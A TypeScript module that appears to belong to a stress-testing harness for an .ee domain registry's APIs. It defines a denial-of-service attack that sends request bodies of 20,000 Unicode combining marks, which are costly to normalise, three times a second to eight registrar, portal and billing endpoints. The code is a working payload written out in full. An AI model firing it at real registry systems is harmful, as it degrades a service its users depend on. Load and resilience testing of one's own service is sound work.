import type { Attack, Credentials } from './attack.ts';
import { callAtRate, head, postHead } from './raw-connection.ts';

const MARKS = 20_000;
/** Marks above and below in turns: normalising sorts them, each past all that came before. */
const marks = (count: number): string => `a${'\u0301\u0316'.repeat(count / 2)}`;
const NAME = marks(MARKS);
/** The longest that fits into the head of a request; every mark takes six characters there. */
const NAME_IN_PATH = encodeURIComponent(marks(2_400));
const ident = { ident: '60001019906', ident_type: 'priv', ident_country_code: 'EE' };

type Call = { readonly path: string; readonly as: keyof Credentials; readonly body?: object };
const CALLS: readonly Call[] = [
  {
    path: '/registry/v1/contacts',
    as: 'registrar',
    body: { contact: { name: NAME, email: 'a@example.ee', phone: '+372.1', ident } },
  },
  {
    path: '/registry/v1/domains',
    as: 'registrar',
    body: { domain: { name: `${NAME}.ee`, registrant: NAME, period: 1, period_unit: 'y' } },
  },
  {
    path: '/registry/v1/domains/transfer',
    as: 'registrar',
    body: { data: { domain_transfers: [{ domain_name: `${NAME}.ee`, transfer_code: NAME }] } },
  },
  {
    path: '/registry/v1/domains',
    as: 'registrar',
    body: { domain: { name: 'marks.ee', nameservers_attributes: Array(5).fill({ hostname: `${NAME}.ee` }) } },
  },
  { path: `/registry/v1/domains/check/${NAME_IN_PATH}.ee`, as: 'registrar' },
  {
    path: '/api/v1/business_registry/reserve_domains',
    as: 'portal',
    body: { domain_names: [`${NAME}.ee`] },
  },
  { path: `/api/v1/business_registry/domain_names/${NAME_IN_PATH}`, as: 'portal' },
  {
    path: '/api/v1/invoice_generator/invoice_generator',
    as: 'billingService',
    body: { invoice_number: 1, transaction_amount: '1.00', custom_field2: NAME, order_reference: NAME },
  },
];

function encoded({ path, as, body }: Call, credentials: Credentials): Buffer {
  const authorization = credentials[as];
  const headers = [
    'Accept: application/json',
    'Connection: close',
    ...(authorization === undefined ? [] : [`Authorization: ${authorization}`]),
  ];
  if (!body) return Buffer.from(head(`GET ${path}`, headers));
  const text = Buffer.from(JSON.stringify(body));
  return Buffer.concat([
    Buffer.from(postHead(path, text.length, [...headers, 'Content-Type: application/json'])),
    text,
  ]);
}

/** Three times a second a text of 20,000 combining marks, in turns at every API. */
export const combiningMarks: Attack = {
  name: 'combining marks',
  start: ({ port, credentials = {} }) => {
    const requests = CALLS.map((call) => encoded(call, credentials));
    return callAtRate(port, 3, (index) => requests[index % requests.length] ?? '');
  },
};
